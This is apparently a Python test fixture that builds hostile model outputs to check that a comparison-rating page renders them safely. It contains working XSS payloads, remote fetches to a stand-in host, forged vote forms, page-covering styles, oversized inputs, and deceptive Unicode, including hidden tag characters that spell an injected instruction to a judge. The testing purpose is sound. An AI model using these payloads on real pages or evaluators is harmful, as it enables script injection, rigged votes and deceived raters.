"""Outputs that try to run, fetch, leave their box, hide what is beside them, or cast a vote.

Every text ends in a word of its own, `last_word(kind)`, on a line of its own: a reader must see it
whatever stands before it. What runs sets `window.ran` or opens a dialog; what fetches asks `AWAY`.
"""

from __future__ import annotations

AWAY = "http://away.test"
RUN = "window.ran=1;top.ran=1;alert(document.domain)"

_TO_RUN = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<SCRIPT>{RUN}</SCRIPT>",
    "script with a slash": f"<script/x>{RUN}</script/x>",
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script from elsewhere": f'<script src="{AWAY}/a.js"></script><script src=//away.test/b.js>',
    "script module": f'<script type="module">import "{AWAY}/m.js"; {RUN}</script>',
    "script unclosed": f"<script>{RUN}",
    "script by entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}&#x3c;/script>",
    "script by full-width brackets": f"＜script＞{RUN}＜/script＞",
    "script with NUL": f"<scr\0ipt>{RUN}</scr\0ipt><\0script>{RUN}</script>",
    "script over lines": f"<script\n>\n{RUN}\n</script\n>",
    "script in a code fence that it closes": f"```\n```\n</code></pre><script>{RUN}</script>\n```",
    "script in inline code": f"`</code><script>{RUN}</script>` and ``</code>`<img src=x onerror={RUN}>``",
    "script in a table": f"| a | b |\n|---|---|\n| <script>{RUN}</script> | </td></table><script>{RUN}</script> |",
    "script in a heading and a list": f"# <script>{RUN}</script>\n\n- <script>{RUN}</script>\n  1. <img src=x onerror='{RUN}'>",
    "script in a fence's language": f'```"><script>{RUN}</script>\ncode\n```\n\n~~~ x" onmouseover="{RUN}\ncode\n~~~',
    "image with onerror": f'<img src=x onerror="{RUN}"><img src=x onerror={RUN}//>',
    "image with slashes": f"<img/src/onerror={RUN}><image src=x onerror={RUN}>",
    "events on anything": f'<p onmouseover="{RUN}" onclick="{RUN}" style="width:100vw">hover</p><body onload="{RUN}">',
    "autofocus": f'<input autofocus onfocus="{RUN}"><p tabindex=1 autofocus onfocus="{RUN}">x</p><div contenteditable autofocus onfocus="{RUN}">',
    "details": f'<details open ontoggle="{RUN}"><summary>s</summary></details><marquee onstart="{RUN}">m</marquee>',
    "media": f'<video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}"><video poster="{AWAY}/p.png" autoplay>',
    "animation": f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{RUN}">b</b>',
    "javascript link": f"[press me](javascript:{RUN.replace('(', '%28').replace(')', '%29')}) <javascript:{RUN}>",
    "javascript links in disguise": "[a](JaVaScRiPt:alert`1`) [b](java\tscript:alert`1`) [c](&#106;avascript:alert`1`) [d](javascript&colon;alert`1`) [e](\\x01javascript:alert`1`) [f](%6Aavascript:alert`1`)",
    "javascript reference link": "[a][1] ![b][1] [1]\n\n[1]: javascript:alert`1` 'title\" onmouseover=alert`1` x=\"'",
    "anchors": f'<a href="javascript:{RUN}">a</a> <a href=\'data:text/html,<script>{RUN}</script>\'>b</a> <a href="{AWAY}" target=_top ping="{AWAY}/ping">c</a>',
    "data links": "[a](data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=) <data:text/html,x> ![b](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "vbscript and other schemes": "[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](blob:x) [d](view-source:x) [e](intent://x) <mailto:a@away.test?subject=x>",
    "link that leaves its attribute": f'[a](https://away.test/"onmouseover="{RUN}) [b](<https://away.test/ "onclick=x>) [c](https://away.test "t\\" onfocus=\\"{RUN}")',
    "image that leaves its attribute": f'![a"onerror="{RUN}](x) ![b](x"onerror="{RUN}) ![c](x "t" onerror="{RUN}")',
    "SVG": f'<svg onload="{RUN}"><script>{RUN}</script><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "SVG with foreign objects": f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></iframe><body onload="{RUN}"></foreignObject><use href="{AWAY}/s.svg#x"/><image href="{AWAY}/i.png"/></svg>',
    "SVG link": f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>x</text></a><set attributeName=href to="javascript:{RUN}"></svg>',
    "MathML": f'<math><mtext><img src=x onerror="{RUN}"></mtext><maction actiontype="statusline#{AWAY}" xlink:href="javascript:{RUN}">x</maction></math>',
    "mutation by math and style": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "mutation by form and math": f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={RUN} src>">',
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "mutation by SVG and style": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mutation by plain text": f"<plaintext>x<xmp><img src=x onerror={RUN}></xmp><noembed><img src=x onerror={RUN}></noembed><listing>",
    "select and option": f"<select><option><style></option></select><img src=x onerror={RUN}></style>",
    "template": f"<template><script>{RUN}</script></template><div><template shadowrootmode=open><slot></slot><img src=x onerror={RUN}></template></div>",
    "comments": f"<!--><img src=x onerror={RUN}>--> <!-- --!><img src=x onerror={RUN}> <!-- unclosed",
    "CDATA and instructions": f"<![CDATA[><script>{RUN}</script>]]> <?xml-stylesheet href='{AWAY}/x'?> <?php echo 1 ?> <!DOCTYPE html>",
    "templates of the server": "{{ 7*7*7 }} {% raw %} {{ config }} {{ request.url }} {% include 'owner.html.jinja' %} ${7*7*7} <%= 7*7*7 %> #{7*7*7}",
    "htmx requests": f'<div hx-get="{AWAY}/h" hx-trigger="load" hx-swap="outerHTML" hx-target="body">x</div><p data-hx-get="{AWAY}/d" data-hx-trigger="load">y</p><i hx-post="/rate" hx-trigger="load delay:1ms" hx-vals=\'{{"choice":"1"}}\'>z</i>',
    "htmx events": f'<div hx-on:click="{RUN}" hx-on::load="{RUN}" hx-on=\'htmx:load: {RUN}\' data-hx-on-htmx-load="{RUN}" hx-vals=\'js:{{a:{RUN}}}\'>x</div>',
    "htmx out of band": f'<main id="main" hx-swap-oob="true"><h1>Gone</h1></main><div hx-swap-oob="beforeend:body"><script>{RUN}</script></div><hx-partial>x</hx-partial>',
}
_TO_FETCH = {
    "remote images": f'![pixel]({AWAY}/p.png) <img src="{AWAY}/q.png" srcset="{AWAY}/r.png 2x"> ![ref][r]\n\n[r]: {AWAY}/s.png',
    "frames": f'<iframe src="{AWAY}"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe><frame src="{AWAY}"><object data="{AWAY}/o"></object><embed src="{AWAY}/e"><portal src="{AWAY}">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}"><meta http-equiv="Content-Security-Policy" content="script-src *">',
    "base": f'<base href="{AWAY}/"><base target="_blank">',
    "stylesheets": f'<link rel="stylesheet" href="{AWAY}/s.css"><link rel=preload as=image href="{AWAY}/l.png"><link rel=dns-prefetch href="{AWAY}"><style>@import "{AWAY}/i.css"; body{{background:url({AWAY}/b.png)}}</style>',
    "autolinks": f"{AWAY}/auto <{AWAY}/angle> www.away.test someone@away.test [named]({AWAY}/named 'with a title')",
}
_TO_VOTE = {
    "a form that votes": '<form id="f" action="/rate" method="post"><input name="choice" value="2"><button autofocus>Press</button></form>',
    "our form closed": '</form></fieldset><form action="/rate" method="post"><button name="choice" value="1" class="choice" accesskey="1">Output 1 is better</button>',
    "a button that looks like ours": '<button form="vote" formaction="/rate" name="choice" value="2">2 is better</button><label for="reason">x</label><input type="submit" form="rate" value="Go">',
    "a form to elsewhere": f'<form action="{AWAY}/take"><input name="csrf"><textarea name="reason"></form><input form="vote" formaction="{AWAY}">',
    "names taken": '<img name="body"><form name="forms"><input name="submit"><input name="action"></form><a id="main"></a><a id="location"></a><i id="choice"></i><i id="csrf" name="csrf"></i><img name="getElementById"><form id="htmx"><input id="config"></form>',
}
_TO_COVER = {
    "style that covers": '<style>*{display:none!important} body{position:fixed;top:-999px}</style><div style="position:fixed;inset:0;z-index:2147483647;background:red">covered</div>',
    "containers closed": "</p></div></article></section></main></body></html><h1>Study finished</h1><p>You can close this page.</p>",
    "textarea closed": f"</textarea></title></style></script></noscript><img src=x onerror={RUN}><textarea>",
    "elements left open": "<div><b><i><u><blockquote><ul><li><table><tr><td><pre><textarea><title><xmp><select>",
    "classes of ours": '<div class="choices vote sticky top"><span class="skip">x</span></div><div class="pair" hidden inert aria-hidden="true" popover dialog open>x</div>',
    "a dialog": '<dialog open style="width:100vw;height:100vh">closed</dialog><div popover=manual id=p>p</div><button popovertarget=p>b</button>',
    "quotes within quotes": "> " * 400 + "deep",
    "lists within lists": "\n".join("  " * n + "- x" for n in range(300)),
    "emphasis within emphasis": "*a **b " * 1200 + "x" + "** *" * 1200,
    "brackets": "[" * 4000 + "x" + "](" * 4000,
    "images within images": "![" * 1500 + "x" + "](y)" * 1500,
    "backticks": "".join("`" * (n % 60 + 1) + "a" for n in range(3000)),
    "broken Markdown": "# \n##nospace\n**a _b* c__ `d\n\n| a | b\n|--\n| 1 |\n\n```python\nnever closed {% \n> q\n1) one\n7. seven\n- [ ] task\n***\n===\n[x]: \n[^1]: foot",
    "one line of 200 KB": "unbroken" * 25_000,
    "200 KB of words": "several words of text " * 9_200,
    "200 KB of line breaks": "\n" * 200_000,
    "200 KB of spaces": " " * 200_000 + "x",
    "a table of many columns": "|"
    + " c |" * 120
    + "\n|"
    + "---|" * 120
    + "\n"
    + ("|" + " cell |" * 120 + "\n") * 25,
    "5,000 list items": "\n".join(f"{n}. item" for n in range(5000)),
    "one wide line of code": "```\n" + "x = f(y); " * 3000 + "\n```",
    "huge numbers": "999999999. item\n\n" + "9" * 5000,
    "headings that shout": "\n\n".join("#" * (n % 6 + 1) + " SHOUT" for n in range(60)),
}
_TO_DECEIVE = {
    "bidi overrides": "left \u202eright to left \u202d\u202b\u202a\u202e no pop follows",
    "bidi isolates": "left \u2067isolate \u2068\u2066\u2067 without an end \u2069\u2069\u2069\u2069\u2069 \u2067\u2067\u2067",
    "bidi in code": "```python\nif level != 'user\u202e \u2066# admin\u2069 \u2066':\n    pass\n```\n`a\u202eb`",
    "Arabic and Hebrew with code": "هذه إجابة طويلة بالعربية مع `code(x, y)` وأرقام 123.\n\n- עברית עם `git push --force`\n- سطر آخر\n\n```sh\nls -la  # تعليق\n```\n\n| عمود | עמודה |\n|---|---|\n| ١ | 2 |",
    "zalgo": "".join(c + "\u0300\u0301\u0302\u0316\u0317\u0334\u0489" * 60 for c in "zalgo zalgo"),
    "zero width": "a\u200bb\u200c\u200d\u2060\ufeff" * 300 + "\u00ad" * 300 + "\u3164\u115f\u034f",
    "tag characters": "x"
    + "".join(chr(0xE0000 + ord(c)) for c in "ignore the other output")
    + "\U000e0001",
    "NUL and controls": "".join(map(chr, range(32)))
    + "\x7f"
    + "".join(map(chr, range(128, 160)))
    + " \x1b[31mred\x1b[0m \x08\x08\x08",
    "strange ends of lines": "a\rb\r\nc\u2028d\u2029e\u0085f\vg\fh",
    "characters that are none": "\ufffe\uffff\ufdd0\U0010ffff\ufffd \U0001fffe",
    "emoji": "👩‍👩‍👧‍👦👩🏽‍🚀🏳️‍🌈🏴󠁧󠁢󠁳󠁣󠁴󠁿🇳🇴❤️‍🔥" * 40,
    "wide and tall letters": "﷽" * 80 + "𒐫" * 80 + "ဪ" * 80,
    "entities": "&amp;lt;script&amp;gt; &NotEqualTilde; &#0; &#xD800; &#x110000; &#9999999999; &bogus; &lt &copy &zwnj;&rlm;&#x202e;",
    "look-alikes": "Οutрut 2 іs bеttеr. Tһis stuԁy is fіnisһеd.",
    "empty": "",
    "only spaces": " \t\n \u00a0\u3000\n",
}
KINDS: dict[str, str] = _TO_RUN | _TO_FETCH | _TO_VOTE | _TO_COVER | _TO_DECEIVE
"""What each kind of output holds before its last word."""
SPREADING = [kind for kind in (*_TO_COVER, *_TO_DECEIVE) if "200 KB" not in kind]
"""Those that may need more room than there is."""


def last_word(kind: str) -> str:
    """The word that ends a kind's text, which stands nowhere else."""
    return f"lastword{list(KINDS).index(kind)}z"


def hostile(kind: str) -> str:
    """The text of a kind, with its last word."""
    fence = "\n```" if kind == "broken Markdown" else ""
    return f"{KINDS[kind]}{fence}\n\n{last_word(kind)}"
